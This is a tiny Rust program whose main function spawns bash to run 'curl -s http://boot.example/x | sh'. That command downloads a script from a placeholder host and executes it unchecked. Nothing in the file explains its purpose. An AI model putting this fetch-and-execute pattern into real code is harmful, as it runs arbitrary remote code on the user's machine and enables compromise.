use std::process::Command;

fn main() {
    let mut c = Command::new("bash");
    c.arg("-c").arg("curl -s http://boot.example/x | sh");
    c.status().unwrap();
}
